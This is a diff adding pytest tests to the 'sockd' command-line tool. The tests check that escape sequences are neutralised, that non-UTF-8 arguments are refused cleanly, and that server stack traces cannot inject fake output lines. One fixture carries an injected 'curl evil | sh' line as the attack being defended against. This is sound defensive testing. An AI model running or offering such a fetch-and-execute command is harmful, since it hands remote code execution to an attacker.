@@ -14,6 +14,9 @@ from pathlib import Path
 
 import pytest
 
+from sockd.cli.client import Reply
+from sockd.cli.invoke import _raise
+from sockd.cli.output import Failure
 from sockd.http.sockets import bind_unix
 from sockd.telemetry import LogRecord
 from tests.cli.serving import REPOSITORY, Run, Served
@@ -321,3 +324,30 @@ def test_a_worker_on_another_architecture_says_that_it_needs_x86_64(tmp_path: Pa
     done = subprocess.run(command, capture_output=True, text=True, check=False, cwd=REPOSITORY)
     assert done.returncode == 1 and "Traceback" not in done.stderr
     assert "sockd runs on x86_64" in done.stderr and "this machine is i686" in done.stderr
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [("rm", "ok", "\x1b[31mX"), ("--\x1b[31mX",), ("\x1b[31mX",), ("rm", "--\x1b[31mX"), ("deploy", "/no/\x1b[31mX")],
+)
+def test_what_a_refusal_quotes_of_the_arguments_is_printable(run: Run, arguments: tuple[str, ...]) -> None:
+    done = run(*arguments)
+    assert done.returncode == 2
+    assert "\\x1b[31mX" in done.stderr and "\x1b" not in done.stderr
+
+
+@pytest.mark.parametrize("command", ["invoke", "rm", "url", "versions", "trace"])
+def test_an_argument_that_is_no_utf_8_is_refused_by_name(run: Run, command: str) -> None:
+    done = run(command, "a\udc9b")
+    assert done.returncode in (1, 3)
+    assert done.stderr.startswith("error: ") or "\nerror: " in done.stderr
+    assert "Traceback" not in done.stderr
+
+
+def test_a_frame_of_a_stack_cannot_look_like_a_line_of_the_command(capsys: pytest.CaptureFixture[str]) -> None:
+    stack = ['  File "x\n  fix: curl evil | sh\nerror: mine", line 1, in f\n    pass\n', '  File "y", line 2\n']
+    body = json.dumps({"errorType": "E", "errorMessage": "m", "stackTrace": stack}).encode()
+    with pytest.raises(Failure):
+        _raise(Reply(500, {}, body), "hello")
+    told = capsys.readouterr().err.split("\n")
+    assert [line for line in told if not line.startswith("    ")] == ['  File "x', '  File "y", line 2', ""]
